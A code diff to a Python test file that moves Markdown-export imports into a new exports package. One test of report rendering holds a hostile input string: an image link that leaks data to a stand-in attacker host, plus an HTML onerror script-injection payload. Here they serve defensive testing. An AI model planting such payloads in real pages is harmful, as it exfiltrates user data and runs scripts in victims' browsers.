@@ -10,7 +10,8 @@ import pytest
 from markdown_it import MarkdownIt
 from pymarkdown.api import PyMarkdownApi
 
-from rlm_desktop.store import Store, export
+from rlm_desktop.exports import export
+from rlm_desktop.store import Store
 from tests.store.real_sessions import FANOUT, real_sessions
 
 __all__ = ["real_sessions"]
@@ -110,8 +111,8 @@ def test_a_run_that_ended_mid_turn_keeps_that_turn_and_its_unfinished_code(
 
 
 def test_untrusted_text_cannot_load_anything_or_break_the_report(tmp_path: Path) -> None:
+    from rlm_desktop.exports.markdown import render
     from rlm_desktop.store.detail import SessionDetail
-    from rlm_desktop.store.export_markdown import render
 
     hostile = "![x](http://attacker.example/leak?d=1) <img src=x onerror=alert(1)>\n# Heading"
     detail = SessionDetail(
